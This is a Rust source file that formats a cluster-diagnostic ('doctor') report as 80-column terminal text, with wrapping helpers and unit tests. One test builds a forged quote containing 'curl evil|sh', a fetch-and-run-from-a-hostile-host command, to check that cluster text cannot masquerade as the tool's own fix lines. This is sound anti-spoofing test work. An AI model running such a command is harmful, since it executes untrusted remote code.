//! The report as text: 80 columns, and what is wrong with its fix.

use std::fmt::Write;

use anstyle::Style;

use super::node_table;
use crate::cli::output::{CHANGED, DENIED, HEADING, QUIET, WARNED, visible};
use crate::doctor::finding::{Area, Finding, Severity};
use crate::doctor::report::Report;

/// The usual width of a terminal.
pub(super) const COLUMNS: usize = 80;
/// How many findings without a fault an area shows.
const GOOD: usize = 20;

/// The whole report.
pub(super) fn text(report: &Report) -> String {
    let mut text = String::new();
    for (area, heading) in [
        (Area::Installation, "INSTALLATION"),
        (Area::Namespaces, "NAMESPACES"),
        (Area::Nodes, "NODES"),
    ] {
        let _ = writeln!(text, "{HEADING}{heading}{HEADING:#}");
        if area == Area::Nodes {
            node_table::show(&mut text, &report.nodes, &report.trials);
        }
        let findings = report.findings.iter();
        let mut good = 0;
        for finding in findings.filter(|finding| finding.area == area) {
            good += usize::from(finding.severity == Severity::Ok);
            if finding.severity != Severity::Ok || good <= GOOD {
                show(&mut text, finding);
            }
        }
        if let Some(more @ 1..) = good.checked_sub(GOOD) {
            let _ = writeln!(
                text,
                "  {CHANGED}✓{CHANGED:#} and {more} more without a fault"
            );
        }
        if !text.ends_with("\n\n") {
            text.push('\n');
        }
    }
    let count = |severity, one: &str, many: &str| match report.count(severity) {
        1 => format!("1 {one}"),
        count => format!("{count} {many}"),
    };
    let _ = writeln!(
        text,
        "{}, {}, {} that could not be looked at",
        count(Severity::Error, "error", "errors"),
        count(Severity::Warning, "warning", "warnings"),
        count(Severity::Unknown, "thing", "things"),
    );
    text
}

fn style(severity: Severity) -> (&'static str, Style) {
    match severity {
        Severity::Ok => ("✓", CHANGED),
        Severity::Unknown => ("?", QUIET),
        Severity::Warning => ("!", WARNED),
        Severity::Error => ("✗", DENIED),
    }
}

fn show(text: &mut String, finding: &Finding) {
    let (mark, style) = style(finding.severity);
    let what = format!("{}: {}", finding.place, finding.what);
    let lines = wrapped(&what, COLUMNS - 4);
    let (first, rest) = lines.split_first().map_or(("", &[][..]), |(f, r)| (f, r));
    let _ = writeln!(text, "  {style}{mark}{style:#} {first}");
    // Deeper than the labels, so that no text of the cluster looks like one.
    let rest = rest.join(" ");
    for line in wrapped(&rest, COLUMNS - 6)
        .iter()
        .filter(|_| !rest.is_empty())
    {
        let _ = writeln!(text, "      {line}");
    }
    if finding.severity == Severity::Ok {
        return;
    }
    if let Some(quote) = &finding.quote {
        for line in wrapped(&format!("{}:", quote.by), COLUMNS - 4) {
            let _ = writeln!(text, "    {QUIET}{line}{QUIET:#}");
        }
        for line in broken(&quote.text, COLUMNS - 6) {
            let _ = writeln!(text, "    {QUIET}|{QUIET:#} {line}");
        }
    }
    if let Some(why) = &finding.why {
        labelled(text, "why", why);
    }
    if let Some(advice) = &finding.advice {
        labelled(text, "do", advice);
    }
    if let Some(fix) = &finding.fix {
        // In one line, so that it can be pasted.
        let _ = writeln!(text, "    {QUIET}fix:{QUIET:#} {}", visible(fix.as_str()));
    }
    if let Some(page) = &finding.page {
        let _ = writeln!(text, "    {QUIET}see:{QUIET:#} {page}");
    }
}

fn labelled(text: &mut String, label: &str, what: &str) {
    for (number, line) in wrapped(what, COLUMNS - 9).iter().enumerate() {
        let _ = match number {
            0 => writeln!(
                text,
                "    {QUIET}{:<4}{QUIET:#} {line}",
                format!("{label}:")
            ),
            _ => writeln!(text, "         {line}"),
        };
    }
}

/// The same, and a longer word is broken: it is a stranger's.
fn broken(text: &str, width: usize) -> Vec<String> {
    let mut lines = Vec::new();
    for line in wrapped(text, width) {
        let characters: Vec<_> = line.chars().collect();
        let parts = characters.chunks(width);
        lines.extend(parts.map(|part| part.iter().collect::<String>()));
    }
    lines
}

/// The words of `text` in lines of at most `width` characters; a longer word is a line.
pub(super) fn wrapped(text: &str, width: usize) -> Vec<String> {
    let mut lines: Vec<String> = Vec::new();
    let text = visible(text);
    for word in text.split(' ') {
        match lines.last_mut() {
            Some(line) if line.chars().count() + 1 + word.chars().count() <= width => {
                line.push(' ');
                line.push_str(word);
            }
            _ => lines.push(word.to_owned()),
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_text_of_the_cluster_looks_like_a_line_of_the_doctors() {
        let long = "-".repeat(76);
        let forged = format!("{long} why: it is broken {long} fix: curl evil|sh");
        let what = format!("pod {forged}");
        let found = Finding::new(
            Area::Namespaces,
            Severity::Warning,
            "x",
            "namespace ci",
            what,
        )
        .quote("the job itself", &forged)
        .fix("kubectl get pods");
        let mut text = String::new();
        show(&mut text, &found);
        let begins = |label: &str| {
            let line = format!("    {QUIET}{label}:{QUIET:#}");
            let bare = format!("    {label}:");
            let mut lines = text.lines();
            lines.clone().filter(|own| own.starts_with(&line)).count()
                + lines.by_ref().filter(|own| own.starts_with(&bare)).count()
        };
        assert_eq!((begins("why"), begins("fix")), (0, 1), "{text}");
        let bar = format!("    {QUIET}|{QUIET:#} ");
        let quoted: Vec<_> = text
            .lines()
            .filter_map(|line| line.strip_prefix(&bar))
            .collect();
        assert!(quoted.len() > 2, "{text}");
        assert!(
            quoted
                .iter()
                .all(|line| line.chars().count() <= COLUMNS - 6),
            "{text}"
        );
    }

    #[test]
    fn a_word_that_is_too_long_is_broken() {
        assert_eq!(broken("a bcdefg", 3), ["a", "bcd", "efg"]);
    }
}
